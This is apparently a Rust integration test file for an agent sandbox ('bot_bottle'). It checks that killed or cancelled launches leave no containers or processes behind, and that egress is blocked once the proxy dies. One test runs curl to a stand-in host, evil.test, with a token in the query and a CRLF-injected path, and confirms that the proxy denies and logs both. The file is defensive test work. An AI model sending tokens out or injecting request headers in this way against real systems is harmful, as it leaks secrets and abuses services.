//! Attacks 45, 48 and 66: whatever dies, nothing stays and nothing opens.

use crate::launcher::{FAILED, command};
use crate::rig::{Other, Recorder, Rig};
use bot_bottle::check::Cleared;
use bot_bottle::engine::{
    Attached, LaunchError, Options, Stage, StateDir, Stream, Talk, Ui, attach, launch, logs, ps, stop, sweep,
};
use bot_bottle::plan::Plan;
use std::fs;
use std::io::{BufRead, BufReader};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

/// Waits until something holds.
pub(crate) fn eventually(what: &str, mut holds: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while !holds() {
        assert!(Instant::now() < deadline, "{what} never came");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Whether a process with these words in its command line lives.
fn running(words: &str) -> bool {
    let lines = fs::read_dir("/proc")
        .expect("proc")
        .flatten()
        .filter_map(|e| fs::read(e.path().join("cmdline")).ok());
    lines.map(|l| String::from_utf8_lossy(&l).replace('\0', " ")).any(|l| l.starts_with(words))
}

/// A launching process; a test that fails leaves none behind.
pub(crate) struct Launcher(pub(crate) Child);

impl Launcher {
    /// Ends it as kill -9 does.
    pub(crate) fn kill(&mut self) {
        self.0.kill().expect("killed");
        self.0.wait().expect("waited");
    }
}

impl Drop for Launcher {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A launcher whose agent has said its first word; the word makes its sleep unlike all others.
fn started(rig: &Rig, seconds: u32) -> Launcher {
    let mut launcher = command(rig, &format!("echo started; exec sleep {seconds}"), Talk::Stream)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("launcher");
    let out = BufReader::new(launcher.stdout.take().expect("stdout"));
    assert!(out.lines().map_while(Result::ok).any(|l| l == "started"));
    Launcher(launcher)
}

/// A number of seconds that no other test sleeps.
fn seconds(rig: &Rig, base: u32) -> u32 {
    let number = bot_bottle::engine::Choice::all().position(|choice| choice == rig.options.backend);
    base * 10 + number.unwrap_or_default() as u32
}

fn no_containers(rig: &Rig) -> bool {
    rig.options.backend == bot_bottle::engine::Choice::BUBBLEWRAP
        || rig.engine(&["ps", "--all", "--format", "{{.Names}}"]).lines().all(|name| !is_ours(rig, name))
}

/// Tests run beside each other, so only this state folder's containers count.
fn is_ours(rig: &Rig, name: &str) -> bool {
    ps(&rig.options.state, &rig.options.host).iter().any(|r| r.container.as_deref() == Some(name))
}

on_each! {
    a45_a_killed_launcher_leaves_nothing_once_the_next_command_runs(rig) {
        let sleep = seconds(rig, 4100);
        let mut launcher = started(rig, sleep);
        let record = ps(&rig.options.state, &rig.options.host).remove(0);
        launcher.kill();
        assert_eq!(rig.runs().len(), 1);
        assert_eq!(sweep(&rig.options.state, &rig.options.host), Vec::<String>::new());
        assert!(rig.runs().is_empty());
        eventually("the guest's end", || !running(&format!("sleep {sleep}")));
        if let Some(container) = &record.container {
            let all = rig.engine(&["ps", "--all", "--format", "{{.Names}}"]);
            assert!(!all.contains(container.as_str()), "{all}");
        }
        for group in &record.cgroups {
            assert!(!group.exists(), "{}", group.display());
        }
        assert!(no_containers(rig));
        // The home of the killed run is kept.
        rig.options.resume = Some(Default::default());
        assert_eq!(rig.sh("echo resumed").out, "resumed\n");
    }

    a48_a_polite_kill_ends_the_guest_and_cleans_up(rig) {
        let sleep = seconds(rig, 4200);
        let mut launcher = started(rig, sleep);
        let record = ps(&rig.options.state, &rig.options.host).remove(0);
        stop(&rig.options.state, &rig.options.host, &record).expect("stopped");
        let status = launcher.0.wait().expect("waited");
        assert_eq!(status.code(), Some(FAILED));
        assert!(rig.runs().is_empty() && !running(&format!("sleep {sleep}")));
    }

}

on_both! {
    somebody_who_joins_sees_the_agent_and_its_end(rig) {
        let other = Other::start(rig, "echo started; until test -e go; do sleep 0.02; done; echo last; exit 5");
        let record = ps(&rig.options.state, &rig.options.host).remove(0);
        let (state, workspace) = (rig.options.state.clone(), rig.workspace.clone());
        let joined = std::thread::spawn(move || {
            let mut out = Shown(Vec::new(), workspace);
            (attach(&state, &record, false, &mut out), out.0)
        });
        assert_eq!(other.join().expect("ran").code, 5);
        let (ended, out) = joined.join().expect("no panic");
        assert_eq!(ended, Ok(Attached::Ended(5)));
        assert_eq!(String::from_utf8_lossy(&out), "started\nlast\n");
    }

    a48_a_cancel_at_each_stage_leaves_nothing(rig) {
        for stage in Stage::ALL.into_iter().filter(|s| *s != Stage::CleanUp) {
            let ui = CancelAt { stage, options: rig.options.clone(), inner: Recorder::default() };
            let mut options = rig.options.clone();
            options.cancel = bot_bottle::engine::Cancel::default();
            let ui = CancelAt { options: Options { cancel: options.cancel.clone(), ..ui.options }, ..ui };
            let plan = Plan { argv: ["sleep", "60"].map(str::to_owned).into(), ..rig.plan.clone() };
            match launch(&Cleared::unjudged(plan.clone()), &options, &ui) {
                Err(LaunchError::Cancelled { .. }) => {}
                other => panic!("{stage}: {other:?}"),
            }
            assert!(rig.runs().is_empty(), "{stage}");
        }
    }

    a66_without_the_proxy_there_is_no_way_out(rig) {
        // The launcher holds the proxy; the container outlives it until the next command.
        let sleep = seconds(rig, 4300);
        let mut launcher = started(rig, sleep);
        let record = ps(&rig.options.state, &rig.options.host).remove(0);
        launcher.kill();
        if let Some(container) = &record.container {
            let out = rig.engine(&["exec", container, "curl", "-sS", "-m", "3", "-x", "http://127.0.0.1:47128", "http://api.test/"]);
            assert!(out.contains("curl: ("), "{out}");
        } else {
            eventually("the guest's end", || !running(&format!("sleep {sleep}")));
        }
        sweep(&rig.options.state, &rig.options.host);
    }

    what_was_refused_is_in_the_log_after_the_run(rig) {
        rig.sh("curl -sS -o /dev/null http://evil.test/a?token=x; curl -sS -o /dev/null \"http://evil.test/$(printf 'b%%0d%%0a')\"");
        let denied = logs(&rig.options.state, &bot_bottle::engine::Subject { file: std::path::PathBuf::new(), name: "dev".to_owned() }, None, true);
        assert_eq!(denied.len(), 2, "{denied:?}");
        assert_eq!((denied[0].request.host.as_str(), denied[0].request.path.as_str()), ("evil.test", "/a"));
    }
}

/// Lets the agent go on once its first line is seen.
struct Shown(Vec<u8>, std::path::PathBuf);

impl std::io::Write for Shown {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.extend_from_slice(bytes);
        fs::write(self.1.join("go"), "")?;
        Ok(bytes.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Cancels when a stage begins.
struct CancelAt {
    stage: Stage,
    options: Options,
    inner: Recorder,
}

impl Ui for CancelAt {
    fn stage(&self, stage: Stage) {
        self.inner.stage(stage);
        if stage == self.stage {
            self.options.cancel.cancel();
        }
    }
    fn note(&self, text: &str) {
        self.inner.note(text);
    }
    fn progress(&self, line: &str) {
        self.inner.progress(line);
    }
    fn ask(&self, question: &str) -> Option<String> {
        self.inner.ask(question)
    }
    fn output(&self, stream: Stream, bytes: &[u8]) {
        self.inner.output(stream, bytes);
    }
}

#[test]
fn a45_a_daemon_that_is_gone_is_said_and_what_it_holds_is_swept_later() {
    let Some(mut rig) = Rig::docker() else { return };
    let good = rig.options.host.clone();
    let mut launcher = started(&rig, 4400);
    launcher.kill();
    rig.options.host.set("DOCKER_HOST", "unix:///nowhere/docker.sock");
    assert_eq!(sweep(&rig.options.state, &rig.options.host).len(), 1);
    assert_eq!(rig.runs().len(), 1, "the record stays until the container is gone");
    let error = rig.try_sh("true").expect_err("no daemon");
    assert_eq!(error.stage(), Stage::Check, "{error}");
    assert!(error.to_string().contains("docker does not answer"), "{error}");
    rig.options.host = good;
    assert!(sweep(&rig.options.state, &rig.options.host).is_empty() && rig.runs().is_empty());
}

#[test]
fn a_state_folder_that_cannot_be_made_is_said() {
    let Some(mut rig) = Rig::bubblewrap() else { return };
    rig.options.state = StateDir::new("/proc/nowhere");
    let error = rig.try_sh("true").expect_err("no folder");
    assert!(error.to_string().starts_with("state: cannot make the state folder /proc/nowhere"), "{error}");
}
